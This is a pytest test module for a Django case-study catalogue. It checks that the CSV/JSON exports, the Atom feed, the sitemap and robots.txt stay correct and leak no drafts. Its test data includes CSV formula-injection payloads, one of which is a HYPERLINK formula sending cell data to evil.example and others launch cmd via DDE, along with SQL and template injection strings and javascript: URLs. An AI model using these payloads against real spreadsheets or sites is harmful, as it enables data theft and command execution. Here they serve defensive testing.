import codecs
import csv
import io
import json
import random
import re
import urllib.robotparser
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import pytest
from django.conf import settings
from django.core.cache import cache
from django.db import connection
from django.utils import timezone
from django.utils.html import escape
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from catalogue import exports, feeds, sitemaps
from catalogue.filters import SORTS
from catalogue.models import (
    Barrier,
    Driver,
    Initiative,
    Organisation,
    Outcome,
    Place,
    Sector,
    Theme,
)
from tests.factories import (
    DraftFactory,
    InitiativeFactory,
    MetricFactory,
    OrganisationFactory,
    PartnershipFactory,
    QuoteFactory,
    SourceFactory,
    term,
)
from tests.hostile import DANGEROUS
from tests.readers import body, csv_records, csv_rows, json_document, listed, xml_of

pytestmark = pytest.mark.django_db

CSV = "/initiatives/export.csv"
JSON = "/initiatives/export.json"
FEED = "/feeds/initiatives.atom"
ATOM = "{http://www.w3.org/2005/Atom}"
SITEMAP = "{http://www.sitemaps.org/schemas/sitemap/0.9}"
ON_POSTGRES = connection.vendor == "postgresql"


# -- reading the outputs ----------------------------------------------------------------------


# -- a catalogue to filter --------------------------------------------------------------------

WORDS = ["housing", "data", "council", "bins", "health", "open data"]
COUNTRIES = ["GB", "EE", "FR", "DE", "EU"]


@pytest.fixture
def vocabulary():
    return {
        "theme": list(Theme.objects.values_list("slug", flat=True)),
        "driver": list(Driver.objects.values_list("slug", flat=True)),
        "outcome": list(Outcome.objects.values_list("slug", flat=True)),
        "barrier": list(Barrier.objects.values_list("slug", flat=True)),
        "sector": list(Sector.objects.values_list("slug", flat=True)),
    }


@pytest.fixture
def varied_catalogue(vocabulary):
    """Thirty published initiatives spread over every filter, with tied titles and dates so
    that the tie-breaks matter, and drafts tagged like them."""
    rng = random.Random(20261125)
    now = timezone.now().replace(microsecond=0)
    kinds = Organisation.Kind.values
    published = []
    for n in range(30):
        factory = InitiativeFactory if n % 6 else DraftFactory
        initiative = factory(
            title=f"{rng.choice(['Better', 'Smarter', 'Open'])} {rng.choice(WORDS)} {n % 7}",
            summary=f"How a {rng.choice(WORDS)} service used {rng.choice(WORDS)}.",
            themes=rng.sample(vocabulary["theme"], rng.randint(1, 3)),
            drivers=rng.sample(vocabulary["driver"], rng.randint(1, 2)),
            outcomes=rng.sample(vocabulary["outcome"], rng.randint(1, 2)),
            barriers=rng.sample(vocabulary["barrier"], rng.randint(0, 2)),
            countries=rng.sample(COUNTRIES, rng.randint(0, 2)),
            sector=term(Sector, rng.choice(vocabulary["sector"])),
            stage=rng.choice(Initiative.Stage.values),
            start_year=rng.choice([None, *range(2005, 2026)]),
            lead_organisation__kind=rng.choice(kinds),
            **({"published_at": now - timedelta(days=n % 9)} if n % 6 else {}),
        )
        if n % 6:
            published.append(initiative)
        if n % 4 == 0:
            PartnershipFactory(initiative=initiative, role=rng.choice(["funder", "other"]))
            MetricFactory(initiative=initiative)
    return published


# -- the exports select exactly what the list shows -------------------------------------------


def pick(values):
    return st.lists(st.sampled_from(values), max_size=3)


@hypothesis_settings(
    max_examples=40,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(data=st.data())
def test_exports_hold_the_lists_records_in_its_order(
    client, settings, vocabulary, varied_catalogue, data
):
    settings.CATALOGUE_PAGE_SIZE = 4  # so that "all pages, not one" is tested
    year = st.one_of(st.integers(1995, 2030).map(str), st.just("abc"))
    query = data.draw(
        st.fixed_dictionaries(
            {},
            optional={
                "theme": pick([*vocabulary["theme"], "no-such-theme"]),
                "driver": pick(vocabulary["driver"]),
                "outcome": pick(vocabulary["outcome"]),
                "barrier": pick(vocabulary["barrier"]),
                "sector": pick([*vocabulary["sector"], "nowhere"]),
                "stage": pick([*Initiative.Stage.values, "later"]),
                "country": pick([*COUNTRIES, "gb", "ZZ"]),
                "kind": pick(Organisation.Kind.values),
                "year_from": year,
                "year_to": year,
                "q": st.sampled_from([*WORDS, "-housing", '"open data"', "bins or health", "é"]),
                "sort": st.sampled_from([*SORTS, "nonsense"]),
                "page": st.sampled_from(["1", "2", "99", "abc"]),
            },
        )
    )
    total, slugs, problems = listed(client, query)
    assert len(slugs) == total

    response = client.get(CSV, query)
    rows = csv_records(response)
    assert [row["slug"] for row in rows] == slugs
    assert response["X-Result-Count"] == str(total)
    assert json.loads(response["X-Filter-Problems"]) == problems

    document = json_document(client.get(JSON, query))
    assert document["count"] == total
    assert [record["slug"] for record in document["initiatives"]] == slugs
    assert document["problems"] == problems
    assert "page" not in document["query"]


def test_filters_narrow_the_export_as_the_data_says(client, varied_catalogue):
    """The comparison above holds whatever the list does; here the answer is known."""
    cloud = {i.slug for i in varied_catalogue if "cloud" in {t.slug for t in i.themes.all()}}
    in_estonia = {
        i.slug for i in varied_catalogue if "EE" in {p.country.code for p in i.places.all()}
    }
    assert 0 < len(cloud) < len(varied_catalogue)
    assert {row["slug"] for row in csv_records(client.get(CSV, {"theme": "cloud"}))} == cloud
    both = csv_records(client.get(CSV, {"theme": "cloud", "country": "ee"}))
    assert {row["slug"] for row in both} == cloud & in_estonia
    everything = csv_records(client.get(CSV, {"page": "3"}))
    newest_first = sorted(
        varied_catalogue, key=lambda i: (-i.published_at.timestamp(), i.title, i.pk)
    )
    assert [row["slug"] for row in everything] == [i.slug for i in newest_first]


# -- CSV format -------------------------------------------------------------------------------

NASTY = 'Comma, "quotes", a line\nbreak, a CRLF\r\nand Zürich, Łódź, 東京, “curly” 🚲'


@pytest.fixture
def detailed():
    """One initiative with every column filled, in text that CSV writers get wrong."""
    lead = OrganisationFactory(name='Council of "A, B"; C\\D', kind="combined-authority")
    initiative = InitiativeFactory(
        title=NASTY,
        summary=f"Summary: {NASTY}",
        lead_organisation=lead,
        themes=["open-data", "cloud"],
        barriers=["funding"],
        countries=["GB", "EE"],
        start_year=2019,
        end_year=2021,
        website="https://example.org/a,b",
        stage="pilot",
        innovation_type="mission",
        collaboration_type="govtech",
        funding="eu",
        evidence_level=3,
        source=False,
    )
    initiative.places.add(Place.objects.get_or_create(country="GB", region="TLI")[0])
    PartnershipFactory(
        initiative=initiative, organisation=OrganisationFactory(name="Ünïcode; Ltd"), role="funder"
    )
    PartnershipFactory(initiative=initiative, organisation=OrganisationFactory(name="Ąb"))
    source = SourceFactory(
        initiative=initiative,
        title='Report "X", part 1',
        author="Ann",
        publisher="Pub",
        url="https://example.org/r?a=1&b=2",
        published_on=date(2024, 3, 1),
        accessed_on=date(2024, 4, 2),
    )
    quote = QuoteFactory(source=source, text="Costs fell by 12.5%; see p. 4", locator="page 4")
    MetricFactory(
        initiative=initiative,
        label="Costs, admin",
        value=Decimal("-12.50"),
        baseline="2019",
        period="2 years",
        source=source,
        quote=quote,
    )
    return Initiative.objects.get(pk=initiative.pk)


def test_csv_is_rfc_4180_utf8_with_a_bom_and_every_field_intact(client, detailed):
    response = client.get(CSV)
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert re.fullmatch(
        r'attachment; filename="case-studies-\d{4}-\d{2}-\d{2}\.csv"',
        response["Content-Disposition"],
    )
    raw = b"".join(response.streaming_content)
    assert raw.startswith(
        codecs.BOM_UTF8 + b"slug,title,summary,challenge,approach,results,lessons,url,"
    )
    text = raw.decode("utf-8-sig")
    assert text.split("\r\n")[0] == ",".join(exports.COLUMNS)
    assert text.endswith("\r\n")
    [record] = [dict(zip(exports.COLUMNS, row, strict=True)) for row in csv_rows_of(text)]
    published = detailed.published_at.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    assert record == {
        "slug": detailed.slug,
        "title": NASTY,
        "summary": f"Summary: {NASTY}",
        **{part: getattr(detailed, part) for part in exports.NARRATIVE},
        "url": f"http://testserver/initiatives/{detailed.slug}/",
        "lead_organisation": 'Council of "A, B"; C\\D',
        "lead_organisation_kind": "Combined authority",
        "partners": "Ąb (Delivery partner); Ünïcode\\; Ltd (Funder)",
        "sector": "General public services",
        "stage": "Pilot",
        "themes": "Cloud; Open data",
        "drivers": "Technology",
        "outcomes": "Service quality",
        "barriers": "Funding",
        "countries": "EE; GB",
        "places": "Estonia; United Kingdom; London, United Kingdom",
        "start_year": "2019",
        "end_year": "2021",
        "evidence_level": "3: causal impact shown",
        "innovation_type": "Mission-oriented",
        "collaboration": "GovTech",
        "funding": "EU funding",
        "website": "https://example.org/a,b",
        "metrics": (
            'Costs, admin: -12.5% decrease, compared with 2019, over 2 years, source: Report "X", '
            "part 1, passage: “Costs fell by 12.5%\\; see p. 4”"
        ),
        "sources": 'Report "X", part 1, Ann, Pub, 2024-03-01 <https://example.org/r?a=1&b=2>',
        "quotes": '“Costs fell by 12.5%\\; see p. 4” (page 4), from Report "X", part 1',
        "first_published": published,
        "last_updated": record["last_updated"],
    }
    assert datetime.fromisoformat(record["last_updated"]) >= detailed.published_at.replace(
        microsecond=0
    )
    assert exports.split_items(record["partners"]) == [
        "Ąb (Delivery partner)",
        "Ünïcode; Ltd (Funder)",
    ]


def csv_rows_of(text):
    header, *rows = csv.reader(io.StringIO(text, newline=""))
    assert header == exports.COLUMNS
    return rows


@pytest.mark.parametrize(
    "items",
    [[], ["one"], ["a; b", "c\\d", "e\\; f", "\\", ";", " leading space", "trailing\\"]],
)
def test_list_cells_split_back_into_their_items(items):
    cell = exports.SEPARATOR.join(exports.escape_item(item) for item in items)
    assert exports.split_items(cell) == items


PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tx",
    "\rx",
    "'=quoted already",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_neutralises_formulas_in_every_cell(client, payload):
    """Every text a user can set starts with the payload; no cell may start a formula."""
    for model, slug in [(Theme, "cloud"), (Driver, "crisis"), (Outcome, "cost-savings")]:
        renamed = term(model, slug)
        renamed.name = f"{payload} {model.__name__}"
        renamed.save()
    barrier = term(Barrier, "funding")
    barrier.name = payload
    barrier.save()
    sector = term(Sector, "health")
    sector.name = f"{payload} sector"
    sector.save()
    initiative = InitiativeFactory(
        slug="-1-1",
        title=payload,
        summary=f"{payload} summary",
        lead_organisation=OrganisationFactory(name=f"{payload} lead"),
        themes=["cloud"],
        drivers=["crisis"],
        outcomes=["cost-savings"],
        barriers=["funding"],
        sector=sector,
        website=f"{payload}website",
        source=False,
    )
    PartnershipFactory(initiative=initiative, organisation=OrganisationFactory(name=payload))
    MetricFactory(initiative=initiative, label=payload)
    SourceFactory(initiative=initiative, title=payload, url="")

    [row] = csv_rows(client.get(CSV))[1:]
    [record] = json_document(client.get(JSON))["initiatives"]
    injected = {
        "slug", "title", "summary", "lead_organisation", "partners", "sector", "themes",
        "drivers", "outcomes", "barriers", "metrics", "sources",
    }  # fmt: skip
    # The website is not an http(s) link, so no output gives it (as the API does not).
    assert row[exports.COLUMNS.index("website")] == "" and record["website"] is None
    for column, cell in zip(exports.COLUMNS, row, strict=True):
        assert not cell.startswith(DANGEROUS), (column, cell)
        if column in injected:
            assert cell.startswith("'"), column
            # Reversible: one apostrophe off gives the value back.
            value = record[column]
            if isinstance(value, str):
                assert cell[1:] == value, column


# -- JSON -------------------------------------------------------------------------------------


def flatten(column, value):
    """A JSON value as the documented CSV conventions write it (before neutralising)."""
    if value is None:
        return ""
    if not isinstance(value, list):
        return str(value)
    if column == "partners":
        items = [f"{p['organisation']} ({p['role']})" for p in value]
    elif column == "metrics":
        items = [
            ", ".join(
                [f"{m['label']}: {m['display']}"]
                + ([f"compared with {m['baseline']}"] if m["baseline"] else [])
                + ([f"over {m['period']}"] if m["period"] else [])
                + ([f"source: {m['source']}"] if m["source"] else [])
                + ([f"passage: “{m['quote']}”"] if m["quote"] else [])
            )
            for m in value
        ]
    elif column == "quotes":
        items = [
            f"“{q['text']}”"
            + (f" ({q['locator']})" if q["locator"] else "")
            + f", from {q['source']}"
            for q in value
        ]
    elif column == "sources":
        items = []
        for s in value:
            parts = [s["title"], s["author"], s["publisher"], s["published_on"]]
            text = ", ".join(part for part in parts if part)
            items.append(f"{text} <{s['url']}>" if s["url"] else text)
    else:
        items = value
    return "; ".join(item.replace("\\", "\\\\").replace(";", "\\;") for item in items)


def test_json_is_the_csv_structured(client, varied_catalogue, detailed):
    response = client.get(JSON, {"sort": "title"})
    assert response.streaming
    assert response["Content-Type"] == "application/json"
    assert re.fullmatch(
        r'attachment; filename="case-studies-\d{4}-\d{2}-\d{2}\.json"',
        response["Content-Disposition"],
    )
    document = json_document(response)
    rows = csv_records(client.get(CSV, {"sort": "title"}))
    assert document["count"] == len(rows) == len(varied_catalogue) + 1
    assert document["query"] == {"sort": "title"}
    assert document["source"]["url"] == "http://testserver/initiatives/?sort=title"
    for record, row in zip(document["initiatives"], rows, strict=True):
        assert list(record) == exports.COLUMNS
        for column in exports.COLUMNS:
            flat = flatten(column, record[column])
            assert row[column] == ("'" + flat if flat.startswith(DANGEROUS) else flat), column
    [structured] = [r for r in document["initiatives"] if r["slug"] == detailed.slug]
    assert structured["title"] == NASTY
    assert structured["themes"] == ["Cloud", "Open data"]
    assert structured["countries"] == ["EE", "GB"]
    assert structured["start_year"] == 2019
    assert structured["partners"][1] == {"organisation": "Ünïcode; Ltd", "role": "Funder"}
    assert structured["metrics"] == [
        {
            "label": "Costs, admin",
            "value": "-12.5",
            "unit": "%",
            "direction": "Decrease",
            "display": "-12.5% decrease",
            "baseline": "2019",
            "period": "2 years",
            "source": 'Report "X", part 1',
            "quote": "Costs fell by 12.5%; see p. 4",
        }
    ]
    assert structured["quotes"] == [
        {
            "text": "Costs fell by 12.5%; see p. 4",
            "locator": "page 4",
            "source": 'Report "X", part 1',
        }
    ]
    # How many of the records record each facet at all, as the list page says.
    records = document["initiatives"]
    for facet, column in (("driver", "drivers"), ("barrier", "barriers"), ("country", "places")):
        assert document["coverage"][facet]["recorded"] == sum(1 for r in records if r[column])
        assert document["coverage"][facet]["of"] == document["count"] == len(records)
    assert document["coverage"]["stage"]["recorded"] == sum(1 for r in records if r["stage"])
    assert structured["sources"][0]["accessed_on"] == "2024-04-02"


def test_export_problems_are_reported_not_fatal(client):
    kept = InitiativeFactory(themes=["cloud"], start_year=2015)
    InitiativeFactory(themes=["skills"])
    query = {"theme": ["cloud", "no-such-theme"], "year_from": "abc", "sort": "nonsense"}
    document = json_document(client.get(JSON, query))
    assert [r["slug"] for r in document["initiatives"]] == [kept.slug]
    assert document["query"] == {"theme": ["cloud"], "sort": "-published"}
    assert len(document["problems"]) == 3
    assert "There is no theme called “no-such-theme”, so it was ignored." in document["problems"]
    response = client.get(CSV, query)
    assert json.loads(response["X-Filter-Problems"]) == document["problems"]
    assert response["X-Filter-Problems"].isascii()
    assert response["Link"] == (
        '<http://testserver/initiatives/?theme=cloud&sort=-published>; rel="alternate"; '
        'type="text/html"'
    )
    assert [row["slug"] for row in csv_records(response)] == [kept.slug]


@pytest.mark.parametrize(
    "query",
    [
        "q=%00",
        "q=" + "x" * 5000,
        "theme=%F0%9F%92%A9",
        "year_from=99999999999999999999",
        "country=ZZ&country=",
        "sort=title&sort=-title",
        "q=' OR 1=1 --&theme={{7*7}}",
        "theme=" + "&theme=".join(f"bad-{n}" for n in range(300)),
    ],
)
@pytest.mark.parametrize("url", [CSV, JSON, FEED])
def test_hostile_queries_never_500(client, url, query):
    InitiativeFactory()
    response = client.get(f"{url}?{query}")
    assert response.status_code == 200
    if response.streaming:
        b"".join(response.streaming_content)
        assert len(response["X-Filter-Problems"]) <= exports.MAX_PROBLEMS_HEADER


# Per chunk: the initiatives with lead organisation and sector, then their drivers, themes,
# outcomes, barriers, places, partnerships with organisations, metrics, quotes and sources.
CHUNK_QUERIES = 10


def test_exports_stream_in_chunks_with_constant_queries_per_chunk(
    client, monkeypatch, django_assert_num_queries, settings
):
    # The coverage counted with SQL, as on the first request after a write (the facet
    # index is rebuilt in the background meanwhile).
    settings.CATALOGUE_FACET_INDEX = "off"
    for _ in range(7):
        initiative = InitiativeFactory(countries=["GB"], barriers=["funding"])
        PartnershipFactory(initiative=initiative)
        MetricFactory(initiative=initiative)
    monkeypatch.setattr(exports, "CHUNK_SIZE", 3)
    # The matching ids, then 3 chunks (3, 3, 1); the JSON also counts the facets' coverage
    # (on PostgreSQL after reading the catalogue version that keys the counts).
    for url, coverage in ((CSV, 0), (JSON, 1 + ON_POSTGRES)):
        with django_assert_num_queries(1 + 3 * CHUNK_QUERIES + coverage):
            response = client.get(url)
            assert response.streaming
            content = b"".join(response.streaming_content)
        assert content.count(b"/initiatives/initiative-") == 7


@pytest.mark.skipif(connection.vendor != "postgresql", reason="server-side cursors")
def test_exports_are_the_same_without_server_side_cursors(client, monkeypatch):
    """Behind PgBouncer in transaction mode (DJANGO_DISABLE_SERVER_SIDE_CURSORS)."""
    InitiativeFactory.create_batch(5, countries=["GB"])
    monkeypatch.setattr(exports, "CHUNK_SIZE", 2)

    def made(url):  # the export, less the second it was made in
        return re.sub(rb'"generated_at": "[^"]*"', b"", body(client.get(url)))

    with_cursors = {url: made(url) for url in (CSV, JSON)}
    cache.clear()
    monkeypatch.setitem(connection.settings_dict, "DISABLE_SERVER_SIDE_CURSORS", True)
    for url in (CSV, JSON):
        assert made(url) == with_cursors[url]
        assert with_cursors[url].count(b"/initiatives/initiative-") == 5


def test_head_sends_the_headers_without_running_the_export(client, django_assert_num_queries):
    InitiativeFactory()
    with django_assert_num_queries(1):
        response = client.head(CSV)
        assert b"".join(response.streaming_content) == b""
    assert response["X-Result-Count"] == "1"


# -- Atom feed --------------------------------------------------------------------------------


def assert_valid_atom(feed):
    """RFC 4287's required elements, each once, with RFC 3339 dates."""
    assert feed.tag == f"{ATOM}feed"
    for name in ("id", "title", "updated"):
        assert len(feed.findall(f"{ATOM}{name}")) == 1, name
    datetime.fromisoformat(feed.findtext(f"{ATOM}updated"))
    assert feed.find(f"{ATOM}link[@rel='self']") is not None
    for entry in feed.findall(f"{ATOM}entry"):
        for name in ("id", "title", "updated", "published", "summary"):
            assert len(entry.findall(f"{ATOM}{name}")) == 1, name
        datetime.fromisoformat(entry.findtext(f"{ATOM}updated"))
        datetime.fromisoformat(entry.findtext(f"{ATOM}published"))
        # No feed-level author, so every entry needs its own.
        assert entry.findtext(f"{ATOM}author/{ATOM}name")
        assert entry.find(f"{ATOM}link[@rel='alternate']").get("href").startswith("http://")


def test_feed_is_valid_atom_of_the_newest_matching_published(client, monkeypatch):
    monkeypatch.setattr(feeds, "FEED_SIZE", 5)
    now = timezone.now()
    matching = [
        InitiativeFactory(
            themes=["cloud", "open-data"], stage="pilot", published_at=now - timedelta(hours=n)
        )
        for n in range(7)
    ]
    InitiativeFactory(themes=["cloud"], stage="scaled")
    DraftFactory(themes=["cloud"], stage="pilot", title="Draft cloud pilot")
    matching[3].summary = "Fish & chips <b>served</b>"
    matching[3].title = "Cats & dogs"
    matching[3].save()

    response = client.get(FEED, {"theme": "cloud", "stage": "pilot", "sort": "title"})
    assert response["Content-Type"] == "application/atom+xml; charset=utf-8"
    feed = xml_of(response)
    assert_valid_atom(feed)
    title = feed.findtext(f"{ATOM}title")
    assert "Theme: Cloud" in title and "Stage: Pilot" in title
    assert feed.find(f"{ATOM}link[@rel='self']").get("href") == (
        "http://testserver/feeds/initiatives.atom?theme=cloud&stage=pilot&sort=title"
    )
    assert feed.find(f"{ATOM}link[@rel='alternate']").get("href") == (
        "http://testserver/initiatives/?theme=cloud&stage=pilot"
    )
    entries = feed.findall(f"{ATOM}entry")
    # Newest published first whatever the sort asked, the latest FEED_SIZE.
    assert [e.find(f"{ATOM}link").get("href") for e in entries] == [
        f"http://testserver{i.get_absolute_url()}" for i in matching[:5]
    ]
    cats = entries[3]
    assert cats.findtext(f"{ATOM}title") == "Cats & dogs"
    summary = cats.find(f"{ATOM}summary")
    assert summary.get("type") == "html"
    assert summary.text == escape("Fish & chips <b>served</b>")
    # The catalogue wrote the entry; its organisation is its subject, the first category.
    assert cats.findtext(f"{ATOM}author/{ATOM}name") == settings.CATALOGUE_NAME
    assert [c.get("term") for c in cats.findall(f"{ATOM}category")] == [
        matching[3].lead_organisation.name,
        "Cloud",
        "Open data",
    ]
    assert datetime.fromisoformat(cats.findtext(f"{ATOM}published")) == matching[3].published_at
    assert b"Draft cloud pilot" not in response.content


# The vocabularies (the theme filter; on PostgreSQL the catalogue version that keys them),
# the entries with lead organisation and sector, their themes, their places.
FEED_QUERIES = 4


def test_feed_query_count_does_not_grow_with_entries(client, django_assert_num_queries):
    for _ in range(4):
        InitiativeFactory(themes=["cloud", "open-data"], countries=["GB", "EE"])
    client.get(FEED, {"theme": "cloud"})
    with django_assert_num_queries(FEED_QUERIES):
        assert len(xml_of(client.get(FEED, {"theme": "cloud"})).findall(f"{ATOM}entry")) == 4


def test_unfiltered_feed_has_the_last_fifty(client):
    assert feeds.FEED_SIZE == 50
    InitiativeFactory(title="Only one")
    feed = xml_of(client.get(FEED))
    assert_valid_atom(feed)
    assert feed.findtext(f"{ATOM}title") == (
        "Public Sector Innovation Case Studies: newly published case studies"
    )
    assert [e.findtext(f"{ATOM}title") for e in feed.findall(f"{ATOM}entry")] == ["Only one"]


def test_feed_survives_text_xml_cannot_carry(client):
    InitiativeFactory(title="Bell\x07 and form\x0cfeed", summary="Start\x01 of heading")
    response = client.get(FEED, {"q": "\x00"})
    feed = xml_of(response)
    assert_valid_atom(feed)
    [entry] = feed.findall(f"{ATOM}entry")
    assert entry.findtext(f"{ATOM}title") == "Bell and formfeed"
    assert entry.findtext(f"{ATOM}summary") == "Start of heading"


def test_feed_says_what_it_ignored(client):
    feed = xml_of(client.get(FEED, {"theme": "no-such-theme"}))
    assert_valid_atom(feed)
    assert "no-such-theme" in feed.findtext(f"{ATOM}subtitle")
    assert feed.findall(f"{ATOM}entry") == []


# -- sitemap and robots.txt -------------------------------------------------------------------


def sitemap_urls(client):
    """{url: lastmod} over every sitemap the index lists."""
    index = xml_of(client.get("/sitemap.xml"))
    assert index.tag == f"{SITEMAP}sitemapindex"
    urls = {}
    for location in index.iterfind(f"{SITEMAP}sitemap/{SITEMAP}loc"):
        section = xml_of(client.get(location.text.removeprefix("http://testserver")))
        assert section.tag == f"{SITEMAP}urlset"
        for url in section.iterfind(f"{SITEMAP}url"):
            loc = url.findtext(f"{SITEMAP}loc")
            assert loc not in urls
            urls[loc] = url.findtext(f"{SITEMAP}lastmod")
    return urls


def test_sitemap_lists_every_public_page_and_nothing_else(client, monkeypatch):
    monkeypatch.setattr(sitemaps.SITEMAPS["initiatives"], "limit", 2)  # several pages
    published = [InitiativeFactory() for _ in range(5)]
    partner = PartnershipFactory(initiative=published[0]).organisation
    draft = DraftFactory()
    draft_partner = PartnershipFactory(initiative=draft).organisation
    archived = DraftFactory(status="archived")

    urls = sitemap_urls(client)
    origin = "http://testserver"
    expected = {f"{origin}/", f"{origin}/initiatives/"}
    expected |= {origin + i.get_absolute_url() for i in published}
    expected |= {origin + i.lead_organisation.get_absolute_url() for i in published}
    expected.add(origin + partner.get_absolute_url())
    assert set(urls) == expected
    for initiative in published:
        lastmod = timezone.localtime(initiative.updated_at).date().isoformat()
        assert urls[origin + initiative.get_absolute_url()] == lastmod
    for hidden in (draft, draft.lead_organisation, draft_partner, archived):
        assert origin + hidden.get_absolute_url() not in urls
    # Every organisation the sitemap lists has a page.
    for url in urls:
        if "/organisations/" in url:
            assert client.get(url.removeprefix(origin)).status_code == 200


@pytest.mark.skipif(connection.vendor != "postgresql", reason="cached on PostgreSQL only")
def test_sitemap_index_is_cached_until_the_catalogue_changes(
    client, monkeypatch, django_assert_num_queries
):
    monkeypatch.setattr(sitemaps.SITEMAPS["initiatives"], "limit", 2)
    InitiativeFactory.create_batch(3)
    first = client.get("/sitemap.xml")
    assert first.status_code == 200
    with django_assert_num_queries(1):  # the catalogue version, nothing else
        again = client.get("/sitemap.xml")
    assert again.content == first.content
    assert again["Content-Type"] == first["Content-Type"]
    assert again["X-Robots-Tag"] == first["X-Robots-Tag"]
    assert first.text.count("sitemap-initiatives.xml") == 2
    # A new page of initiatives appears in the index at once.
    InitiativeFactory.create_batch(2)
    assert client.get("/sitemap.xml").text.count("sitemap-initiatives.xml") == 3


def test_robots_txt(client, settings):
    response = client.get("/robots.txt")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    lines = response.text.splitlines()
    assert "Sitemap: http://testserver/sitemap.xml" in lines
    assert not any(settings.ADMIN_URL.strip("/") in line for line in lines)  # kept private
    robots = urllib.robotparser.RobotFileParser()
    robots.parse(lines)
    for allowed in ("/", "/initiatives/", "/initiatives/some-case/", "/organisations/x/"):
        assert robots.can_fetch("AnyBot", allowed), allowed
    for path in ("/initiatives/export.csv", "/initiatives/export.json", "/api/v1/"):
        assert not robots.can_fetch("AnyBot", path), path
    assert client.get("/sitemap.xml").status_code == 200


# -- no draft, ever ---------------------------------------------------------------------------


@pytest.mark.parametrize("status", ["draft", "in-review", "archived"])
def test_no_unpublished_record_appears_in_any_output(client, status):
    InitiativeFactory(title="Public housing data", themes=["cloud"])
    hidden = DraftFactory(
        status=status,
        slug="hidden-record",
        title="Hidden housing data",
        themes=["cloud"],
        lead_organisation=OrganisationFactory(slug="hidden-lead", name="Hidden lead"),
    )
    PartnershipFactory(initiative=hidden, organisation=OrganisationFactory(slug="hidden-partner"))
    for query in ({}, {"theme": "cloud"}, {"q": "housing"}, {"q": "hidden"}):
        outputs = [
            body(client.get(CSV, query)),
            body(client.get(JSON, query)),
            client.get(FEED, query).content,
        ]
        for content in outputs:
            assert b"Public housing data" in content or query == {"q": "hidden"}
            assert b"hidden-" not in content and b"Hidden" not in content
    assert not any("hidden-" in url for url in sitemap_urls(client))


@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,<b>x</b>", " JavaScript:x"])
def test_script_and_data_urls_are_left_out_of_every_output(client, url):
    """One rule for every output: only http(s) links are given, as the API gives them."""
    initiative = InitiativeFactory(website=url, source=False)
    SourceFactory(initiative=initiative, title="The source", url=url)
    [record] = json_document(client.get(JSON))["initiatives"]
    assert record["website"] is None
    assert record["sources"][0]["url"] is None
    [row] = csv_rows(client.get(CSV))[1:]
    assert row[exports.COLUMNS.index("website")] == ""
    assert "<" not in row[exports.COLUMNS.index("sources")]
    api = client.get(f"/api/v1/initiatives/{initiative.slug}/").json()
    assert api["website"] is None and api["sources"][0]["url"] is None
    for output in (client.get(FEED), client.get(f"/initiatives/{initiative.slug}/")):
        assert url.strip().split(":")[0].lower() + ":" not in output.content.decode().lower()
